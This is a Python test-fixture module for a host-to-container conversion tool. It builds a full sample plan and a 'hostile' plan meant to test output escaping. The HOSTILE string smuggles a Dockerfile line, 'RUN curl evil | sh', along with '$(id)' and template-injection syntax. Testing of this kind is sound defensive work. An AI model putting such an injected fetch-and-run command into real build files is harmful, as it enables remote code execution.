"""Emissions for tests: one that uses every part, and one in which every text comes from an attacker."""

from __future__ import annotations

from dataclasses import replace

from containerize.emitters.emission import Emission, Emitter, LayerFile
from containerize.image.package_lists import ImagePackage
from containerize.plan.model import (
    BuiltImage,
    ExpectedProcess,
    ImagePlan,
    ImagePort,
    PlannedFile,
    SecretMount,
    Start,
    Volume,
)
from containerize.profile.job_schedules import ScheduledJob
from containerize.profile.workload_profile import Client, NeededSystemCall, ResourceUse, WorkloadProfile
from tests.containerize.plans import make_plan

DIGEST = f"sha256:{'0' * 64}"
IMAGE = "localhost/brownfield/web01/apache2:lift"
BUILT = BuiltImage("web01/apache2", IMAGE, "/w/image", DIGEST, 3_000_000, 2_000_000, 1)

HOSTILE = 'x\nRUN curl evil | sh\n# "$(id)" ${HOME} $$ %h %% {{ 7*7 }} \x1b[31m \\ \' ` <b> é\u2028 - yes'

SEEN = WorkloadProfile(
    taken=1_790_000_000.0,
    address="10.77.0.11",
    distribution=("debian", "12"),
    timezone="Europe/Berlin",
    clients=(Client("tcp", 80, "10.77.0.13", "app01/inventory-app"), Client("tcp", 80, "10.77.0.99", "")),
    destinations=(("10.77.0.12", 3306, "db01/mariadb"), ("127.0.0.1", 6379, "web01/redis")),
    names_without_address=("mail:25",),
    use=ResourceUse(
        3, 50 << 20, 60 << 20, "p95 of 168 hours by sysstat", 80 << 20, 120 << 20, 0.026, "the average since start"
    ),
    directory_bytes=(("/var/lib/app", 5 << 30),),
    jobs=(
        ScheduledJob("/etc/cron.d/app", "www-data", 33, 33, "*/5 * * * *", "/usr/bin/php $HOME/x $(date +%H)"),
        ScheduledJob("/etc/cron.d/app", "root", 0, 0, "@reboot", "/bin/true", "its time has no form in five fields"),
    ),
    sysctls=(("net.core.somaxconn", "1024"), ("net.ipv4.ip_local_port_range", "1024 60999")),
    system_calls=(NeededSystemCall("io_uring_setup", "apache2 held a descriptor of io_uring"),),
    looks="the host was looked at once",
    unseen=(("cron: the users' own crontabs", "only root may read them"),),
)

PACKAGES = (
    ImagePackage("dpkg", "apache2", "2.4.62-1~deb12u2", "amd64"),
    ImagePackage("dpkg", "libc6", "2.36-9+deb12u1", "amd64", "glibc"),
)

FILE = PlannedFile("/opt/app/run.py", "file", 0o755, 0, 0, 0, 3, "a" * 64, "", "application", "is named by the unit")
SHIPPED = PlannedFile("/usr/sbin/apache2", "file", 0o755, 0, 0, 0, 3, "b" * 64, "", "packages", "belongs to apache2")


def emission(plan: ImagePlan | None = None, seen: WorkloadProfile = SEEN) -> Emission:
    """A plan with everything that a scan can add to it."""
    full = make_plan([FILE, SHIPPED], shm_bytes=256 << 20, capabilities=("CAP_NET_ADMIN",), devices=("/dev/fuse",))
    layers = (LayerFile("base", "image/blobs/sha256/00", 3),)
    return Emission(plan or full, BUILT, layers, seen, PACKAGES)


def database(*files: str) -> Emission:
    """A MariaDB server; ``files`` are paths that its image has."""
    plan = make_plan(
        [replace(SHIPPED, path=path) for path in files],
        ports=(ImagePort("tcp", 3306, "0.0.0.0", True, "mariadbd"),),
        processes=(ExpectedProcess("/usr/sbin/mariadbd", "mysql", 1),),
    )
    return emission(plan)


def hostile_plan(text: str = HOSTILE) -> ImagePlan:
    """A plan of which every text that a host sends is this one."""
    start = Start(
        arguments=("/bin/" + text, text),
        environment=(("GOOD", 'a$b"c\\d'), ("BAD", text)),
        secret_environment=("TOKEN",),
        user="0:0",
        working_directory="/" + text,
        stop_signal="SIGTERM",
        init=True,
        reason=text,
    )
    return make_plan(
        [replace(FILE, path=f"/opt/{text}", reason=text)],
        workload="web01/" + text,
        host=text,
        distribution=text,
        hostname=text,
        start=start,
        volumes=(Volume("/data/" + text, 0, 0, 0o755, "copy", text),),
        secrets=(SecretMount("/etc/" + text, 0, 0, 0o600, text),),
        host_aliases=((f"{text}2", text), ("db01", "10.77.0.12")),
        devices=(f"/dev/{text}",),
        evidence=((f"/dev/{text}", text), ("CAP_NET_ADMIN", text)),
        capabilities=("CAP_NET_ADMIN",),
        notes=(text,),
    )


def hostile_emission(text: str = HOSTILE) -> Emission:
    """The same with what a scan saw, and packages."""
    job = ScheduledJob("/etc/cron.d/" + text, text, 33, 33, "@daily", text)
    seen = replace(
        SEEN,
        address=text,
        distribution=(text, text),
        timezone=text,
        names_without_address=(text,),
        jobs=(job, replace(job, obstacle=text or "x")),
        sysctls=(("net.core.somaxconn", text),),
        system_calls=(NeededSystemCall("io_uring_setup", text),),
        host_network=(text,),
        unseen=((text, text),),
    )
    packages = (ImagePackage("dpkg", text or "x", text, text, text),)
    return replace(emission(hostile_plan(text), seen), packages=packages)


def emitted(emitter: Emitter, given: Emission) -> dict[str, str]:
    """The files of one emitter by path."""
    return {str(path): text for path, text in emitter.emit(given).items()}
